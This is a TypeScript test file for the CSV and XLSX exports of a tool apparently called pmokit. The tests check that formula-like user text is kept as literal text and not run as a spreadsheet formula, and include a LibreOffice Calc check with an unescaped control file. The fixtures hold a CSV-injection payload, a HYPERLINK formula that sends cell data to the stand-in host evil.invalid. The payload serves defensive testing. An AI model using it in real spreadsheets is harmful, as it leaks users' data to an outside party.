import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { strFromU8, unzipSync } from "fflate";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { loadSampleOffice } from "../../examples/office.js";
import { decodeEntity } from "../../src/entities/index.js";
import { exportCsv, exportXlsx, importCsv, importXlsx } from "../../src/io/index.js";
import { hasSoffice } from "../support/soffice.js";
import { IMPORTED_AT } from "./fixtures.js";

/**
 * User text a spreadsheet would run as a formula (OWASP CSV injection): a link that leaks data when clicked, a
 * leading `+`/`-`/`@`, plain arithmetic. pmokit's exports must keep each one as the literal text.
 */
const TEXTS = ['=HYPERLINK("http://evil.invalid/?d="&A1,"Click")', "+1", "@SUM(A1:A9)", "=1+1", "-2+3"];
const base = loadSampleOffice()["cost-entry"][0] as object;
const entries = TEXTS.map((description, i) => decodeEntity("cost-entry", { ...base, id: `ce-${i}`, description }));
const xmlText = (s: string) => s.replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&");

/** The cells of a written sheet: reference → { type, shared string or inline text, has a formula }. */
function sheetCells(bytes: Uint8Array): Map<string, { t: string | undefined; text: string | undefined; formula: boolean }> {
  const files = unzipSync(bytes);
  const shared = [...strFromU8(files["xl/sharedStrings.xml"]!).matchAll(/<si>(.*?)<\/si>/gs)].map((m) => xmlText([...m[1]!.matchAll(/<t[^>]*>(.*?)<\/t>/gs)].map((t) => t[1]).join("")));
  const cells = new Map<string, { t: string | undefined; text: string | undefined; formula: boolean }>();
  for (const m of strFromU8(files["xl/worksheets/sheet1.xml"]!).matchAll(/<c r="([A-Z]+\d+)"([^>]*?)(?:\/>|>(.*?)<\/c>)/gs)) {
    const t = /\bt="([^"]+)"/.exec(m[2]!)?.[1];
    const body = m[3] ?? "";
    const v = /<v>(.*?)<\/v>/s.exec(body)?.[1];
    const inline = /<is>.*?<t[^>]*>(.*?)<\/t>/s.exec(body)?.[1];
    cells.set(m[1]!, { t, text: t === "s" && v !== undefined ? shared[Number(v)] : inline === undefined ? undefined : xmlText(inline), formula: /<f[\s>/]/.test(body) });
  }
  return cells;
}

describe("formula-like text in exports stays text", () => {
  it("exportXlsx: each such cell is a shared-string cell holding the literal text, and the workbook has no formula", async () => {
    const bytes = await exportXlsx({ "cost-entry": entries });
    const cells = sheetCells(bytes);
    const column = String.fromCharCode(65 + ["id", "projectId", "workPackageId", "date", "amount.amount", "amount.currency", "category", "expenditure", "description"].length - 1); // "I"
    expect(cells.get(`${column}1`)?.text).toBe("description");
    // A cell of type "s" (or an inline string) is text by the SpreadsheetML schema: Excel and Calc never evaluate it.
    expect(TEXTS.map((_, i) => cells.get(`${column}${i + 2}`))).toEqual(TEXTS.map((text) => ({ t: "s", text, formula: false })));
    const xml = Object.entries(unzipSync(bytes)).filter(([n]) => n.endsWith(".xml")).map(([, d]) => strFromU8(d)).join("");
    expect(xml).not.toMatch(/<f[\s>/]/);
    // Read back: the same texts (a workbook cell is never neutralised, so nothing is added or removed).
    expect(importXlsx("cost-entry", bytes, { importedAt: IMPORTED_AT }).records.map((r) => r.description)).toEqual(TEXTS);
  });

  it("exportCsv: each such cell starts with one apostrophe (a plain number stays data), and import gives the text back", () => {
    const csv = exportCsv("cost-entry", entries);
    const rows = parse(csv) as string[][];
    const d = rows[0]!.indexOf("description");
    expect(rows.slice(1).map((r) => r[d])).toEqual(['\'=HYPERLINK("http://evil.invalid/?d="&A1,"Click")', "'+1", "'@SUM(A1:A9)", "'=1+1", "'-2+3"]);
    expect(rows.slice(1).map((r) => r[rows[0]!.indexOf("amount.amount")])).toEqual(TEXTS.map(() => "12990.65")); // numbers untouched
    expect(importCsv("cost-entry", csv, { importedAt: IMPORTED_AT }).records.map((r) => r.description)).toEqual(TEXTS);
  });
});

if (hasSoffice()) {
  describe("formula-like text in exports, opened in LibreOffice Calc", () => {
    it("the workbook and the CSV open as text; the same CSV without the apostrophes would run formulas", async () => {
      const dir = mkdtempSync(join(tmpdir(), "pmokit-formula-"));
      try {
        writeFileSync(join(dir, "book.xlsx"), await exportXlsx({ "cost-entry": entries }));
        writeFileSync(join(dir, "export.csv"), exportCsv("cost-entry", entries));
        // The oracle's control: the same cells written raw, as a CSV writer without the rule would.
        writeFileSync(join(dir, "raw.csv"), `description\n${TEXTS.map((t) => `"${t.replace(/"/g, '""')}"`).join("\n")}\n`);
        // One headless run opens all three with Calc's default import and saves them as flat ODF, where a formula
        // cell carries table:formula and a text cell its text.
        execFileSync("soffice", ["--headless", `-env:UserInstallation=file://${join(dir, "profile")}`, "--convert-to", "fods", "--outdir", dir, join(dir, "book.xlsx"), join(dir, "export.csv"), join(dir, "raw.csv")], { stdio: "ignore", timeout: 150_000 });
        const fods = (name: string) => readFileSync(join(dir, `${name}.fods`), "utf8");
        const formulas = (xml: string) => [...xml.matchAll(/table:formula="([^"]*)"/g)].map((m) => xmlText(m[1]!));
        const texts = (xml: string) => [...xml.matchAll(/<text:p>(.*?)<\/text:p>/gs)].map((m) => xmlText(m[1]!.replace(/<[^>]+>/g, "")));
        expect(formulas(fods("book"))).toEqual([]);
        expect(texts(fods("book"))).toEqual(expect.arrayContaining(TEXTS));
        expect(formulas(fods("export"))).toEqual([]);
        // Calc keeps the apostrophe of a CSV cell as text: the user sees '=1+1, never the result 2 or a live link.
        expect(texts(fods("export"))).toEqual(expect.arrayContaining(TEXTS.map((t) => `'${t}`)));
        // Control: without the apostrophes Calc makes formulas of the link and the arithmetic (so this test can fail).
        expect(formulas(fods("raw"))).toEqual(expect.arrayContaining(['of:=HYPERLINK("http://evil.invalid/?d="&[.A1];"Click")', "of:=1+1"]));
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    }, 180_000);
  });
} else {
  describe("formula-like text in exports, opened in LibreOffice Calc (skipped: soffice not installed)", () => {
    it("has no soffice on the PATH", () => {
      expect(hasSoffice()).toBe(false);
    });
  });
}
